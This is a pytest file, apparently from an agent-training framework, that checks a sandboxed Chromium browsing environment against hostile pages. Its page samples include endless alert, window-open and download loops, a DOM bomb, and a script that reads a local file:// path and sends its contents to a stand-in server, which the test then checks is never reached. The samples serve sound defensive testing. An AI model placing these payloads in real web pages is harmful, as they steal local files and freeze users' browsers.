"""Whole episodes on hostile pages in a real Chromium: each ends by its deadline, reaches nobody and reads no file."""

from __future__ import annotations

import asyncio
import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import ClassVar

import pytest

from practicum.agent import Agent, Deadlines
from practicum.chat.formats.web_actions import parse_action
from practicum.chat.renderer import Renderer
from practicum.engines.scripted import ScriptedEngine
from practicum.environment import Action, Observation, ScriptedPolicy
from practicum.environments.web.base import BrowserEnvironment, Start, WebVerdict
from practicum.environments.web.browser import EXECUTABLE, Browser
from practicum.environments.web.gateway import HttpRequest, HttpResponse
from practicum.models import loader
from practicum.registry import make_format
from practicum.resources import RunResources
from practicum.rollout import run_episodes
from practicum.task import Task
from practicum.trajectory import ActionSource, Outcome, Trajectory, plan_attempts
from tests.environments.web.test_safety import can_load_a_page

STEP_SECONDS, EPISODE_SECONDS = 6.0, 8.0
MAX_ROUNDS = 4
"""A machine so slow that a page was not even asked for within the deadline gets more time, so often."""
GIVE_UP_SECONDS = 300.0
SECRET, DOWNLOAD = "do-not-show-this", "hostile-download.txt"

PAGES = {
    "alerts": "<script>for (;;) alert('again')</script>",
    "redirects": "<title>Moved</title><script>location = '/redirects?' + Math.random()</script>",
    "moved": "",
    "dom": "<script>document.write(('<p>' + 'x'.repeat(1000) + '</p>').repeat(50000))</script>",
    "windows": """<a href="#" onclick="for (;;) window.open('/windows')">Open</a>
                  <script>setInterval(() => window.open('/windows'), 10)</script>""",
    "downloads": f"""<a id=a download={DOWNLOAD} href="data:text/plain,x">File</a>
                     <script>setInterval(() => document.getElementById('a').click(), 50)</script>""",
    "files": """<a href="file://PATH">Read</a><iframe src="file://PATH"></iframe><input type=file>
                <script>
                  setInterval(() => prompt('Path of a local file?'), 50);
                  fetch('file://PATH').then(r => r.text()).then(t => fetch('http://OTHER/?' + t)).catch(() => 0);
                  for (const kind of ['img', 'script', 'object', 'embed'])
                    document.body.append(Object.assign(document.createElement(kind), {src: 'http://OTHER/' + kind}));
                  location = 'file://PATH';
                </script>""",
}
"""What is served at the path of each kind of page; `moved` is a redirect to itself."""


class HostileEnvironment(BrowserEnvironment):
    """A page with a link to a hostile one."""

    name = "hostile"
    path = other = ""
    """A local file, and another server of this machine."""
    served: ClassVar[set[str]] = set()
    """Kinds of pages that were asked for."""

    def tasks(self, split: str, count: int, seed: int = 0) -> Sequence[Task]:
        return [Task(kind, self.name, split, {"question": "Read the page."}) for kind in PAGES]

    async def start(self, task: Task, seed: int) -> Start:
        async def handle(request: HttpRequest) -> HttpResponse:
            kind = request.path.strip("/")
            if kind not in PAGES:
                return HttpResponse(body=f"<title>Begin</title><a href='/{task.id}'>Go on</a>".encode())
            self.served.add(kind)
            if kind == "moved":
                return HttpResponse(302, headers={"Location": "/moved"})
            return HttpResponse(body=PAGES[kind].replace("PATH", self.path).replace("OTHER", self.other).encode())

        return Start({"a.test": handle}, "http://a.test/", str(task.fields["question"]), "a")

    async def judge(self, message: str | None) -> WebVerdict:
        return WebVerdict(success=False, progress=0.0)


def never_ends(task: Task, seed: int) -> ScriptedPolicy:
    """A policy that clicks on the first element, or on nothing, and never says that it is done."""

    def act(observation: Observation) -> Action:
        clicks = [text for text in observation.legal or () if text.startswith("click")]
        return Action(calls=(parse_action(clicks[0] if clicks else "noop(100)"),))

    return act


async def play_until_served(browser: Browser, renderer: Renderer) -> list[Trajectory]:
    """One episode of each kind of page, all at once, again for those whose page was not asked for in time."""
    resources = RunResources({"browser": browser})
    engine = ScriptedEngine(never_ends, ActionSource.SCRIPTED, make_format("web"), renderer)
    episodes: list[Trajectory] = []
    for round_index in range(MAX_ROUNDS):
        deadlines = Deadlines(step=2**round_index * STEP_SECONDS, episode=2**round_index * EPISODE_SECONDS)
        agent = Agent(format="web", max_turns=100_000, deadlines=deadlines)
        tasks = [task for task in HostileEnvironment().tasks("test", 0) if task.id not in HostileEnvironment.served]
        planned = plan_attempts(tasks, 1, 0)
        episodes += await run_episodes(planned, HostileEnvironment, agent, engine, renderer, resources=resources)
    assert HostileEnvironment.served == set(PAGES)
    assert browser.num_sessions == 0
    assert await can_load_a_page(browser)
    await resources.close()
    return episodes


@pytest.mark.skipif(shutil.which(EXECUTABLE) is None, reason=f"needs {EXECUTABLE} (make setup installs it)")
def test_hostile_pages_end_their_episodes_by_the_deadline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("playwright")
    loaded = loader.load("tiny")
    renderer = Renderer(loaded.tokenizer, None, loaded.end_ids)
    secret = tmp_path / "secret.html"
    secret.write_text(f"<title>{SECRET}</title>{SECRET}")
    num_reached = 0

    async def record_connection(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal num_reached
        num_reached += 1
        writer.close()

    async def run() -> list[Trajectory]:
        async with (
            asyncio.timeout(GIVE_UP_SECONDS),
            await asyncio.start_server(record_connection, "127.0.0.1", 0) as server,
        ):
            monkeypatch.setattr(HostileEnvironment, "path", str(secret))
            monkeypatch.setattr(HostileEnvironment, "other", f"127.0.0.1:{server.sockets[0].getsockname()[1]}")
            monkeypatch.setattr(HostileEnvironment, "served", set())
            return await play_until_served(Browser(), renderer)

    episodes = asyncio.run(run())
    assert {episode.task.id for episode in episodes} == set(PAGES)
    assert {episode.outcome for episode in episodes} == {Outcome.TIMEOUT}
    page_texts = " ".join(
        message.content for episode in episodes for turn in episode.turns for message in turn.messages
    )
    assert SECRET not in page_texts
    assert num_reached == 0
    for folder in (tmp_path, Path.cwd(), Path.home(), Path.home() / "Downloads", Path("/tmp")):
        assert not list(folder.glob(f"{DOWNLOAD}*"))
